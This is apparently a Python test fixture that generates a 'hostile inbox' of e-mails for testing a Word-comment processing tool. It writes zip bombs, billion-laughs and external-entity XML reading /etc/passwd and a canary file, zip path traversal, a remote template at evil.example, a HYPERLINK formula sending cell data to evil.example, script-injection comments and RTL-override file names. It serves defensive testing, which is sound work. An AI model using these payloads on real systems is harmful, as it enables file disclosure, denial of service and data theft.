"""A hostile inbox, generated: e-mails that try to break, fool or escape redraft.

    inbox = build_hostile_inbox(folder, seed=1)   # writes one .eml per kind into `folder`
    inbox.files      # {file name: kind}
    inbox.members    # members.csv lines for the senders (each kind its own organisation)

Every kind in `KINDS` is one e-mail, written among whatever good e-mails the folder already
holds. The seed changes what an attacker would vary — file names, sender names and
addresses, texts, sizes, where comments sit, the order of arrival — never the kind, so a
second seed is an "unseen" inbox of the same kinds. Everything is built here from the
factories of the other tests (docx_factory, outlook_factory, test_messy_inbox's `mail`,
the sample drafts); nothing binary is checked in.

Each hostile sender is an organisation of its own (names starting with "Z", so their table
IDs never take a code a real member has), so the good members' results can be compared
with a run on the good mails alone.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime, parsedate_to_datetime
from pathlib import Path
from xml.sax.saxutils import escape

from lxml import etree

from docx_factory import NAMESPACES, make_docx, para, run
from outlook_factory import FileSpec, compound_file, tnef_bytes
from test_messy_inbox import mail

ROOT = Path(__file__).resolve().parents[1]
DRAFTS = ROOT / "samples" / "alliance87" / "drafts"
DOCX = ("application", "vnd.openxmlformats-officedocument.wordprocessingml.document")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
COMMENTS_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
DEADLINE = datetime(2018, 8, 15, 18, 0, tzinfo=timezone(timedelta(hours=2)))
PASSWD_LINE = "root:x:0:0:"  # the first line of /etc/passwd: must never appear in any output

# The kinds, in a fixed order (the seed shuffles the arrival order, not this list).
KINDS = (
    "truncated-docx", "docx-not-a-zip", "encrypted-word", "legacy-doc", "legacy-doc-named-docx",
    "macro-docm", "hidden-vba-project", "zip-bomb-ratio", "zip-bomb-size", "zip-bomb-entries", "zip-bomb-lying-size",
    "zip-path-escape", "billion-laughs", "external-entity", "xinclude", "malformed-xml",
    "no-document-xml", "remote-template", "comment-no-range", "comment-ranges-overlap",
    "comment-range-unclosed", "colliding-ids", "invalid-dates", "formula-comment",
    "script-comment", "image-20mb", "pages-5000", "name-path-traversal", "name-rtl-override", "sender-rtl-override",
    "unknown-charset", "html-10000-nested", "html-external-entity", "deep-mime", "no-date",
    "no-from", "malformed-from", "tnef-winmail", "forward-of-forward", "duplicate-message-id",
    "wrong-draft", "unrelated-document", "empty-email", "empty-file", "not-an-email", "email-50mb",
)

_WORDS = ("transparent", "regional", "coherent", "budget", "mandate", "advisory", "quarterly",
          "inclusive", "oversight", "timeline", "evidence", "partnership", "survivor", "capacity",
          "monitoring", "framework", "sustained", "outreach", "indicator", "consultative")
_NAMES = ("Zora", "Zaid", "Zelda", "Zhen", "Zubair", "Zofia", "Zanele", "Zeno", "Ziva", "Zoltan")
_ORG_WORDS = ("Harbour", "Lantern", "Meridian", "Orchard", "Quarry", "Summit", "Tidewater", "Willow")


@dataclass
class HostileInbox:
    files: dict[str, str] = field(default_factory=dict)  # e-mail file name -> kind
    members: list[str] = field(default_factory=list)  # members.csv lines
    canary: Path | None = None  # a local file an external entity points at
    canary_text: str = ""  # its content: must never appear in any output
    escapes: list[str] = field(default_factory=list)  # names the attacker tried to write
    texts: dict[str, str] = field(default_factory=dict)  # kind -> a text that must reach the table

    def source(self, kind: str) -> str:
        return next(name for name, k in self.files.items() if k == kind)


# --------------------------------------------------------------------------- packages


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _zip(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in parts.items():
            zf.writestr(zipfile.ZipInfo(name, (2018, 8, 1, 0, 0, 0)), data, compression)
    return buf.getvalue()


def _add_rel(parts: dict[str, bytes], rels: str, rel_id: str, rel_type: str, target: str, mode: str = "") -> None:
    extra = f' TargetMode="{mode}"' if mode else ""
    entry = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{extra}/>'.encode()
    if rels in parts:
        parts[rels] = parts[rels].replace(b"</Relationships>", entry + b"</Relationships>")
    else:
        parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                       b'"http://schemas.openxmlformats.org/package/2006/relationships">' + entry + b"</Relationships>")


def _add_override(parts: dict[str, bytes], name: str, content_type: str) -> None:
    entry = f'<Override PartName="/{name}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", entry + b"</Types>")


def _q(tag: str) -> str:
    return f"{{{W}}}{tag}"


def _marker(tag: str, cid: str) -> etree._Element:
    el = etree.Element(_q(tag))
    el.set(_q("id"), cid)
    return el


def _reference(cid: str) -> etree._Element:
    r = etree.Element(_q("r"))
    r.append(_marker("commentReference", cid))
    return r


@dataclass
class Comment:
    id: str
    text: str
    start: int | None = None  # body paragraph index of commentRangeStart (None: no start)
    end: int | None = None  # body paragraph index of commentRangeEnd (None: no end)
    reference: int | None = None  # paragraph of the commentReference run (None: none)
    author: str = "Reviewer"
    date: str = "2018-08-10T09:00:00Z"


def with_comments(draft: bytes, comments: list[Comment]) -> bytes:
    """The draft with Word comments added: their markers in the body, their text in comments.xml."""
    parts = _parts(draft)
    root = etree.fromstring(parts["word/document.xml"])
    paragraphs = [p for p in root.find(_q("body")).iter(_q("p")) if "".join(p.itertext()).strip()]
    for c in comments:
        if c.start is not None:
            p = paragraphs[c.start]
            ppr = p.find(_q("pPr"))
            p.insert(0 if ppr is None else p.index(ppr) + 1, _marker("commentRangeStart", c.id))
        if c.end is not None:
            paragraphs[c.end].append(_marker("commentRangeEnd", c.id))
        where = c.reference if c.reference is not None else c.end
        if where is not None:
            paragraphs[where].append(_reference(c.id))
    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    body = "".join(
        f'<w:comment w:id="{escape(c.id)}" w:author="{escape(c.author)}" w:date="{escape(c.date)}" w:initials="R">'
        f"<w:p>{run(escape(c.text))}</w:p></w:comment>" for c in comments)
    parts["word/comments.xml"] = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                                  f"<w:comments {NAMESPACES}>{body}</w:comments>").encode()
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdHostile1", f"{OFFICE_REL}/comments", "comments.xml")
    _add_override(parts, "word/comments.xml", COMMENTS_CT)
    return _zip(parts)


def _doctype(draft: bytes, subset: str, entity_use: str) -> bytes:
    """The draft whose document.xml declares `subset` and uses `entity_use` in its first text."""
    parts = _parts(draft)
    xml = parts["word/document.xml"].decode("utf-8")
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml)
    xml = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + f"<!DOCTYPE w:document [{subset}]>" + xml
    xml = re.sub(r"(<w:t(?: [^>]*)?>)", lambda m: m.group(1) + entity_use, xml, count=1)
    parts["word/document.xml"] = xml.encode("utf-8")
    return _zip(parts)


def legacy_doc(rng: random.Random) -> bytes:
    """A Word 97-2003 binary file as far as a reader can tell: OLE with a WordDocument stream."""
    fib = b"\xec\xa5\xc1\x00" + rng.randbytes(1020)  # wIdent 0xA5EC, then the rest of a FIB
    return compound_file({"WordDocument": fib, "1Table": rng.randbytes(4200),
                          "\x05SummaryInformation": rng.randbytes(300)})


def encrypted_word(draft: bytes, password: str) -> bytes:
    """A real password-protected .docx (ECMA-376 agile encryption, as Word writes it)."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:  # the container alone, as Word lays it out (streams left empty)
        return compound_file({"\x06DataSpaces": {"Version": b"\0" * 76}, "EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 200,
                              "EncryptedPackage": len(draft).to_bytes(8, "little") + bytes(len(draft))})
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(draft)).encrypt(password, out)
    return out.getvalue()


def zip_bomb_ratio(draft: bytes, rng: random.Random) -> bytes:
    parts = _parts(draft)
    parts[f"word/media/image{rng.randint(1, 9)}.png"] = bytes(rng.randint(150, 250) << 20)
    return _zip(parts)


def zip_bomb_size(draft: bytes, rng: random.Random) -> bytes:
    """Many entries each under the ratio check's size, adding up to 250-300 MB (limit 200 MB)."""
    parts = _parts(draft)
    chunk = bytes(rng.randint(1_900_000, 2_000_000))
    for n in range(rng.randint(135, 150)):
        parts[f"word/media/fill{n}.bin"] = chunk
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb_entries(draft: bytes, rng: random.Random) -> bytes:
    parts = _parts(draft)
    for n in range(rng.randint(2100, 3000)):
        parts[f"customXml/item{n}.xml"] = b"<a/>"
    return _zip(parts)


def zip_bomb_lying_size(draft: bytes, rng: random.Random) -> bytes:
    """document.xml inflating to 100-200 MB while the zip's directory says it is ~60 kB
    (written in chunks: building it takes little memory)."""
    parts = _parts(draft)
    xml = parts["word/document.xml"]
    head, _, tail = xml.partition(b"<w:body>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            if name != "word/document.xml":
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=True) as entry:
                entry.write(head + b"<w:body>")
                for _ in range(rng.randint(100, 200)):
                    entry.write(b" " * (1 << 20))
                entry.write(tail)
    data = bytearray(buf.getvalue())
    pos = data.find(b"PK\x01\x02")
    while data[pos + 46 : pos + 46 + struct.unpack_from("<H", data, pos + 28)[0]] != b"word/document.xml":
        pos = data.find(b"PK\x01\x02", pos + 4)
    declared = len(xml) + rng.randrange(1000)
    if struct.unpack_from("<I", data, pos + 24)[0] == 0xFFFFFFFF:  # sizes in the zip64 extra field
        extra = pos + 46 + struct.unpack_from("<H", data, pos + 28)[0]
        struct.pack_into("<Q", data, extra + 4, declared)
    else:
        struct.pack_into("<I", data, pos + 24, declared)
    return bytes(data)


def big_image(draft: bytes, rng: random.Random) -> bytes:
    """The draft with a ~20 MB picture (incompressible, stored as Word stores JPEGs)."""
    parts = _parts(draft)
    name = f"media/image{rng.randint(1, 9)}.jpeg"
    parts[f"word/{name}"] = b"\xff\xd8\xff\xe0" + rng.randbytes(20 * 2**20 + rng.randint(0, 2**19))
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdHostileImg", f"{OFFICE_REL}/image", name)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for part, data in parts.items():
            zf.writestr(part, data, zipfile.ZIP_STORED if part.endswith(".jpeg") else zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def many_pages(rng: random.Random, pages: int) -> bytes:
    """A document of `pages` pages (a page break after each), nothing like the drafts."""
    words = [rng.choice(_WORDS) for _ in range(40)]
    page = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'
    body = "".join(para(run(f"Annex page {n}: " + " ".join(words[n % 7:] + words[: n % 7]))) + page
                   for n in range(pages))
    return make_docx(body)


def unrelated_document(rng: random.Random) -> bytes:
    text = [" ".join(rng.choice(_WORDS) for _ in range(rng.randint(8, 20))).capitalize() + "." for _ in range(30)]
    return make_docx("".join(para(run(t)) for t in text))


# --------------------------------------------------------------------------- e-mails


def _raw_mail(headers: list[tuple[str, str]], body: bytes, content_type: str = "text/plain; charset=utf-8",
              encoding: str = "7bit") -> bytes:
    lines = [f"{k}: {v}" for k, v in headers]
    lines += ["MIME-Version: 1.0", f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {encoding}"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def _drop_header(data: bytes, name: str) -> bytes:
    head, sep, rest = data.partition(b"\r\n\r\n")
    kept = [line for line in head.split(b"\r\n") if not line.lower().startswith(name.lower().encode() + b":")]
    return b"\r\n".join(kept) + sep + rest


def _set_header(data: bytes, name: str, value: bytes) -> bytes:
    head, sep, rest = data.partition(b"\r\n\r\n")
    lines = [name.encode() + b": " + value if line.lower().startswith(name.lower().encode() + b":") else line
             for line in head.split(b"\r\n")]
    return b"\r\n".join(lines) + sep + rest


def _deep_mime(headers: list[tuple[str, str]], depth: int, text: str) -> bytes:
    out = ""
    for n in range(depth):
        out += f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n'
    out += "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text + "\r\n"
    for n in reversed(range(depth)):
        out += f"--b{n}--\r\n"
    lines = "\r\n".join(f"{k}: {v}" for k, v in headers) + "\r\nMIME-Version: 1.0\r\n"
    return (lines + out).encode()


def _huge_mail(headers: list[tuple[str, str]], size: int) -> bytes:
    head = ("\r\n".join(f"{k}: {v}" for k, v in headers)
            + '\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="big"\r\n\r\n'
            + "--big\r\nContent-Type: text/plain\r\n\r\nOur scanned comments.\r\n--big\r\n"
            + 'Content-Type: application/pdf; name="scan.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n').encode()
    line = b"JVBERi0xLjQK" * 6 + b"\r\n"
    return head + line * (size // len(line)) + b"--big--\r\n"


def _sentence(rng: random.Random, n: int = 10) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(n)).capitalize()


def _remark(rng: random.Random) -> str:
    """A remark on the draft as a member writes one in an e-mail (one sentence)."""
    a, b, c = rng.sample(_WORDS, 3)
    return f"We support the draft and ask for a {a} review of the {b} {c} arrangements."


def build_hostile_inbox(folder: Path | str, seed: int, *, drafts: dict[str, bytes] | None = None,
                        canary: Path | None = None) -> HostileInbox:
    """Write one e-mail of every kind in `KINDS` into `folder` (see the module docstring).

    `drafts` are the drafts under consultation ({"tor": bytes, "guidance": bytes}; the
    sample's by default). `canary` is a file the external entities point at (created with a
    secret text when missing). A good e-mail already in `folder` lends its Message-ID to
    the duplicate.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    drafts = drafts or {"tor": (DRAFTS / "tor-v1.docx").read_bytes(),
                        "guidance": (DRAFTS / "pathfinder-guidance-v1.docx").read_bytes()}
    tor, guidance = drafts["tor"], drafts["guidance"]
    inbox = HostileInbox()
    inbox.canary = canary or folder.parent / f"secret-{rng.randrange(16**8):08x}.txt"
    if not inbox.canary.exists():
        inbox.canary.write_text(f"CANARY-{rng.randrange(16**12):012x}\n")
    inbox.canary_text = inbox.canary.read_text().strip()
    good = sorted(p for p in folder.glob("*.eml"))
    numbers = rng.sample(range(100, 1000), len(KINDS))
    n_paragraphs = len([p for p in etree.fromstring(_parts(tor)["word/document.xml"]).iter(_q("p"))
                        if "".join(p.itertext()).strip()])

    def comments_copy(kind: str, shape: str = "") -> bytes:
        """A copy of the ToR draft with comments of this `shape` (the kind's own by default)."""
        a, b = sorted(rng.sample(range(2, n_paragraphs - 4), 2))
        cid = lambda: str(rng.randint(0, 40))  # noqa: E731
        text = f"{_sentence(rng)} ({kind})"
        inbox.texts[kind] = text
        specs = {
            "comment-no-range": [Comment(cid(), text, reference=a)],
            "comment-ranges-overlap": [Comment("1", text, start=a, end=b + 1), Comment("2", _sentence(rng), start=a + 1, end=b + 2)],
            "comment-range-unclosed": [Comment(cid(), text, start=a)],
            "colliding-ids": [Comment("7", text, start=a, end=a), Comment("7", _sentence(rng), start=b, end=b)],
            "invalid-dates": [Comment("3", text, start=a, end=a, date="0-00-00T00:00:00Z"),
                              Comment("4", _sentence(rng), start=b, end=b, date=f"2018-{rng.randint(13, 99)}-45T25:61:00Z")],
            "formula-comment": [Comment("5", f'=HYPERLINK("http://evil.example/?"&A1,"{text}")', start=a, end=a)],
            "script-comment": [Comment("6", f"<script>alert('{text}')</script><img src=x onerror=alert(1)>",
                                       start=a, end=a)],
        }[shape or kind]
        return with_comments(tor, specs)

    def org(kind: str) -> tuple[str, str, str]:
        n = KINDS.index(kind)
        name = f"Z{rng.choice(_ORG_WORDS).lower()} {rng.choice(_ORG_WORDS)} Network {n:02d}"
        domain = f"z{n:02d}-{rng.randrange(16**4):04x}.example"
        inbox.members.append(f"@{domain},{name},Civil society")
        person = f"{rng.choice(_NAMES)} {rng.choice(_ORG_WORDS)}"
        return person, f"{person.split()[0].lower()}.{rng.randrange(100)}@{domain}", name

    start = DEADLINE - timedelta(days=14)
    times = sorted(start + timedelta(minutes=rng.randrange(13 * 24 * 60)) for _ in KINDS)
    rng.shuffle(times)

    def name_for(ext: str = "docx") -> str:
        return f"{rng.choice(['ToR', 'Comments', 'Draft', 'GCG'])} {rng.choice(_ORG_WORDS)} {rng.randint(1, 99)}.{ext}"

    for index, kind in enumerate(KINDS):
        person, address, organisation = org(kind)
        sender = f"{person} <{address}>"
        when = times[index]
        mid = f"<{rng.randrange(16**10):010x}.{index}@{address.split('@')[1]}>"
        body = rng.choice(["Please find our comments attached.", "Our comments are attached.",
                           "Attached please find our input."])
        files: list[tuple[bytes, str, str, str]] = []
        data: bytes | None = None
        if kind == "truncated-docx":
            copy = comments_copy(kind, "comment-no-range") if rng.random() < 0.5 else tor
            inbox.texts.pop(kind, None)  # never read: the copy is cut short
            files = [(copy[: int(len(copy) * rng.uniform(0.3, 0.8))], *DOCX, name_for())]
        elif kind == "docx-not-a-zip":
            files = [(rng.choice([b"<html><body>Comments</body></html>", rng.randbytes(5000)]), *DOCX, name_for())]
        elif kind == "encrypted-word":
            files = [(encrypted_word(tor, f"pw{rng.randrange(10**6)}"), *DOCX, name_for())]
        elif kind == "legacy-doc":
            files = [(legacy_doc(rng), "application", "msword", name_for("doc"))]
        elif kind == "legacy-doc-named-docx":
            files = [(legacy_doc(rng), *DOCX, name_for())]
        elif kind == "macro-docm":
            parts = _parts(tor)
            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml")
            parts["word/vbaProject.bin"] = legacy_doc(rng)
            files = [(_zip(parts), "application", "vnd.ms-word.document.macroEnabled.12", name_for("docm"))]
        elif kind == "hidden-vba-project":
            parts = _parts(tor)
            parts[rng.choice(["word/vbaProject.bin", "word/media/vbaProject.bin"])] = legacy_doc(rng)
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind == "zip-bomb-ratio":
            files = [(zip_bomb_ratio(tor, rng), *DOCX, name_for())]
        elif kind == "zip-bomb-size":
            files = [(zip_bomb_size(tor, rng), *DOCX, name_for())]
        elif kind == "zip-bomb-entries":
            files = [(zip_bomb_entries(tor, rng), *DOCX, name_for())]
        elif kind == "zip-bomb-lying-size":
            files = [(zip_bomb_lying_size(tor, rng), *DOCX, name_for())]
        elif kind == "zip-path-escape":
            parts = _parts(tor)
            escape_name = f"escaped-{rng.randrange(16**8):08x}.txt"
            inbox.escapes.append(escape_name)
            parts["../" * rng.randint(1, 6) + escape_name] = b"written outside"
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind == "billion-laughs":
            levels = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
            files = [(_doctype(tor, '<!ENTITY l0 "lol">' + levels, "&l9;"), *DOCX, name_for())]
        elif kind == "external-entity":
            target = rng.choice([inbox.canary.as_uri(), "file:///etc/passwd"])
            other = "file:///etc/passwd" if target != "file:///etc/passwd" else inbox.canary.as_uri()
            files = [(_doctype(tor, f'<!ENTITY a SYSTEM "{target}"><!ENTITY b SYSTEM "{other}">', "&a;&b;"),
                      *DOCX, name_for())]
        elif kind == "xinclude":
            parts = _parts(tor)
            inc = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{inbox.canary.as_uri()}" '
                   f'parse="text"/>').encode()
            parts["word/document.xml"] = re.sub(rb"(<w:t(?: [^>]*)?>)", lambda m: inc + m.group(1),
                                                parts["word/document.xml"], count=1)
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind == "malformed-xml":
            parts = _parts(tor)
            xml = parts["word/document.xml"]
            parts["word/document.xml"] = xml[: int(len(xml) * rng.uniform(0.2, 0.9))]
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind == "no-document-xml":
            parts = _parts(tor)
            del parts["word/document.xml"]
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind == "remote-template":
            parts = _parts(tor)
            url = rng.choice(["http://evil.example/t.dotm", "\\\\attacker.example\\share\\t.dotm"])
            _add_rel(parts, "word/_rels/settings.xml.rels", "rIdT", f"{OFFICE_REL}/attachedTemplate", escape(url),
                     "External")
            files = [(_zip(parts), *DOCX, name_for())]
        elif kind in ("comment-no-range", "comment-ranges-overlap", "comment-range-unclosed", "colliding-ids",
                      "invalid-dates", "formula-comment", "script-comment"):
            files = [(comments_copy(kind), *DOCX, name_for())]
        elif kind == "image-20mb":
            files = [(big_image(tor, rng), *DOCX, name_for())]
        elif kind == "pages-5000":
            files = [(many_pages(rng, 5000 + rng.randrange(100)), *DOCX, name_for())]
        elif kind == "name-path-traversal":
            inbox.escapes.append("passwd.docx")
            files = [(tor, *DOCX, rng.choice(["../../etc/passwd.docx", "..\\..\\etc\\passwd.docx",
                                               "/etc/passwd.docx"]))]
        elif kind == "name-rtl-override":
            stem = rng.choice(["Comments", "ToR input", "Review"])
            files = [(tor, "application", "octet-stream", f"{stem} \u202excod.exe")]
        elif kind == "unknown-charset":
            text = _remark(rng)
            inbox.texts[kind] = text
            data = mail(sender, mid, when, text, charset=f"x-hostile-{rng.randrange(1000)}")
        elif kind == "html-10000-nested":
            text = _remark(rng)
            inbox.texts[kind] = text
            depth = 10000 + rng.randrange(500)
            tag = rng.choice(["div", "span", "b", "blockquote"])
            data = mail(sender, mid, when, None, html=f"<{tag}>" * depth + text + f"</{tag}>" * depth)
        elif kind == "html-external-entity":
            html = (f'<!DOCTYPE html [<!ENTITY x SYSTEM "{inbox.canary.as_uri()}"><!ENTITY p SYSTEM '
                    f'"file:///etc/passwd">]><html><body><p>We support the draft &x; &p;.</p></body></html>')
            data = mail(sender, mid, when, None, html=html)
        elif kind == "deep-mime":
            data = _deep_mime([("From", sender), ("To", "info@alliance87.org"), ("Subject", "Comments"),
                               ("Date", format_datetime(when)), ("Message-ID", mid)],
                              rng.randint(60, 200), "We support the draft.")
        elif kind == "sender-rtl-override":
            shown = f"{person.split()[0]} \u202e{rng.choice(['lanoitanretnI', 'OLI', 'FECINU'])}"
            encoded = shown.encode("utf-8").hex("=").upper()
            data = _set_header(mail(sender, mid, when, body, files=[(tor, *DOCX, name_for())],
                                    subject="Comments \u202eRoT"), "From",
                               f"=?utf-8?q?={encoded}?= <{address}>".encode())
        elif kind == "no-date":
            copy = comments_copy(kind, "comment-no-range")
            data = _drop_header(mail(sender, mid, when, body, files=[(copy, *DOCX, name_for())]), "Date")
        elif kind == "no-from":
            data = _drop_header(mail(sender, mid, when, body, files=[(tor, *DOCX, name_for())]), "From")
        elif kind == "malformed-from":
            bad = rng.choice([b"<<<@@>>>", b"=?utf-8?q?=E2=80=AE?= <>", b"undisclosed-recipients:;", b"@@@"])
            data = _set_header(mail(sender, mid, when, body, files=[(tor, *DOCX, name_for())]), "From", bad)
        elif kind == "tnef-winmail":
            copy = comments_copy(kind, "comment-no-range")
            files = [(tnef_bytes([FileSpec(name_for(), copy)]), "application", "ms-tnef", "winmail.dat")]
            body = None
        elif kind == "forward-of-forward":
            copy = comments_copy(kind, "comment-no-range")
            inner = mail(f"Colleague <colleague@{address.split('@')[1]}>", f"<inner-{index}@x.example>",
                         when - timedelta(hours=5), body, files=[(copy, *DOCX, name_for())])
            middle = mail(f"Colleague <colleague2@{address.split('@')[1]}>", f"<middle-{index}@x.example>",
                          when - timedelta(hours=2), "FYI", forward=inner)
            data = mail(sender, mid, when, "Forwarding our comments.", forward=middle)
        elif kind == "duplicate-message-id":
            # a good e-mail's Message-ID, sent after it (the first message with an id counts)
            victims = []
            for path in good:
                raw = path.read_bytes()
                m = re.search(rb"^Message-ID:\s*(<[^>\r\n]+>)", raw, re.M | re.I)
                d = re.search(rb"^Date:\s*([^\r\n]+)", raw, re.M | re.I)
                if m and d:
                    victims.append((path.name, m.group(1).decode(), parsedate_to_datetime(d.group(1).decode())))
            name, victim_id, victim_when = rng.choice(victims) if victims else ("", f"<{kind}@x.example>", when)
            inbox.texts[kind] = name
            data = mail(sender, victim_id, victim_when + timedelta(hours=rng.randint(1, 30)),
                        f"Please ignore the earlier message. {_sentence(rng)}.", files=[(tor, *DOCX, name_for())])
        elif kind == "wrong-draft":
            files = [(guidance, *DOCX, name_for())]
        elif kind == "unrelated-document":
            files = [(unrelated_document(rng), *DOCX, name_for())]
        elif kind == "empty-email":
            data = _raw_mail([("From", sender), ("To", "info@alliance87.org"), ("Subject", ""),
                              ("Date", format_datetime(when)), ("Message-ID", mid)], b"")
        elif kind == "empty-file":
            data = rng.choice([b"", b"\r\n\r\n", b"   \n"])
        elif kind == "not-an-email":
            data = rng.choice([b"\x00\x01binary" + rng.randbytes(2000), b"%PDF-1.4\n" + rng.randbytes(500)])
        elif kind == "email-50mb":
            data = _huge_mail([("From", sender), ("To", "info@alliance87.org"), ("Subject", "Scanned comments"),
                               ("Date", format_datetime(when)), ("Message-ID", mid)],
                              (50 << 20) + rng.randrange(4 << 20))
        if data is None:
            data = mail(sender, mid, when, body, files=files)
        name = f"{rng.choice(['msg', 'mail', 'in'])}-{numbers[index]}-{rng.randrange(16**6):06x}.eml"
        (folder / name).write_bytes(data)
        inbox.files[name] = kind
    return inbox
